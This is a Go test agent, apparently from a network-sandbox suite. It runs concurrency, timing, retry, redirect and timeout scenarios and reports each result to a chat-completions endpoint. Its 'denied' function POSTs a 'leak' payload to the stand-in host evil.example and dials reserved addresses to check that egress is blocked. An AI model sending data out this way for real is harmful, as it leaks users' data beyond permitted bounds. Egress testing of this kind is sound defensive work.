// The Go agent of the suite: standard library alone, linked statically. argv[1] names the shape.
package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	mrand "math/rand"
	"net"
	"net/http"
	"os"
	"sync"
	"time"
)

const twin = 0

const api, news = "https://api.openai.com", "https://news.example"

type object = map[string]any

func call(method, url string, value any, timeout time.Duration) (int, []byte, error) {
	var body io.Reader
	if value != nil {
		raw, _ := json.Marshal(value)
		body = bytes.NewReader(raw)
	}
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	request, _ := http.NewRequestWithContext(ctx, method, url, body)
	request.Header.Set("Content-Type", "application/json")
	answer, err := http.DefaultClient.Do(request)
	if err != nil {
		return 0, nil, err
	}
	defer answer.Body.Close()
	raw, err := io.ReadAll(answer.Body)
	return answer.StatusCode, raw, err
}

func get(url string) (int, []byte, error) { return call("GET", url, nil, time.Minute) }

func value(raw []byte) object {
	var found object
	_ = json.Unmarshal(raw, &found)
	return found
}

func ask(format string, args ...any) {
	message := object{"role": "user", "content": fmt.Sprintf(format, args...)}
	say := object{"model": "m", "messages": []object{message}}
	status, raw, err := call("POST", api+"/v1/chat/completions", say, time.Minute)
	if err != nil {
		panic(err)
	}
	fmt.Println(status, len(raw))
}

func random(count int) string {
	raw := make([]byte, count)
	_, _ = rand.Read(raw)
	return hex.EncodeToString(raw)
}

func gather() {
	answers := make([]any, 10+twin)
	var wait sync.WaitGroup
	for i := range answers {
		wait.Add(1)
		go func(i int) {
			defer wait.Done()
			_, raw, _ := get(fmt.Sprintf("%s/late/%d", news, i))
			answers[i] = value(raw)["n"]
		}(i)
	}
	wait.Wait()
	ask("in the order of the calls: %v", answers)
}

func asCompleted() {
	done := make(chan string)
	for i := 0; i < 8; i++ {
		go func(i int) {
			_, raw, _ := get(fmt.Sprintf("%s/late/%d", news, i))
			done <- fmt.Sprint(value(raw)["name"])
		}(i)
	}
	order := []string{}
	for i := 0; i < 8; i++ {
		order = append(order, <-done)
	}
	if twin == 1 {
		order = []string{"none"}
	}
	ask("in the order of the answers: %v", order)
}

func clock() {
	begun := time.Now()
	time.Sleep(40 * time.Millisecond)
	ask("%s took %d, %d %s", begun.Format(time.RFC3339Nano), time.Since(begun), mrand.Int63(), random(4+twin))
}

func uuids() {
	mine := random(16)
	_, raw, _ := call("POST", news+"/back", object{"id": mine}, time.Minute)
	back := value(raw)
	fmt.Println(back["id"] == mine)
	if twin == 1 {
		back["id"] = back["server"]
	}
	ask("go on with %v", back["id"])
}

func backoff() {
	tries := 0
	for {
		status, _, _ := get(news + "/retry/429/3")
		if status == 200 {
			break
		}
		tries++
		time.Sleep(time.Duration(20+mrand.Intn(20)) * time.Millisecond)
	}
	ask("worked after %d refusals", tries+twin)
}

func longPoll() {
	empty, status, raw := twin, 204, []byte{}
	for {
		status, raw, _ = get(news + "/poll/2")
		if status != 204 {
			break
		}
		empty++
	}
	ask("news after %d empty answers: %s", empty, raw)
}

func redirect() {
	status, _, _ := get(fmt.Sprintf("%s/hop/%d", news, 3-twin))
	stopped, _, _ := get(news + "/leak")
	ask("%d and %d", status, stopped)
}

func cut() {
	broken := []string{}
	for {
		status, raw, err := get(news + "/cut/2")
		if err == nil {
			ask("%d, %d bytes after %v", status, len(raw)+twin, broken)
			return
		}
		broken = append(broken, fmt.Sprintf("%v after %d bytes", err, len(raw)))
	}
}

func timeouts() {
	failed := twin
	for i := 0; i < 2; i++ {
		_, _, err := call("GET", fmt.Sprintf("%s/silent/%d", news, i), nil, 300*time.Millisecond)
		if err != nil {
			failed++
		}
	}
	ask("%d timeouts", failed)
}

func denied() {
	out := []string{}
	status, _, err := call("POST", "https://evil.example/x", object{"leak": "data"}, time.Minute)
	out = append(out, fmt.Sprint(status, err))
	for _, place := range [][2]string{
		{"tcp", "192.0.2.7:443"},
		{"tcp", fmt.Sprintf("198.18.0.1:%d", 8080+twin)},
		{"udp", "192.0.2.7:5353"},
	} {
		conn, err := net.DialTimeout(place[0], place[1], 10*time.Second)
		if err == nil {
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			_, err = conn.Write([]byte("x"))
			if err == nil {
				_, err = conn.Read(make([]byte, 1))
			}
		}
		out = append(out, fmt.Sprint(place, err != nil))
	}
	ask("refused: %v", out)
}

func main() {
	map[string]func(){
		"gather": gather, "ascompleted": asCompleted, "clock": clock, "uuids": uuids, "backoff": backoff,
		"longpoll": longPoll, "redirect": redirect, "cut": cut, "timeouts": timeouts, "denied": denied,
	}[os.Args[1]]()
}
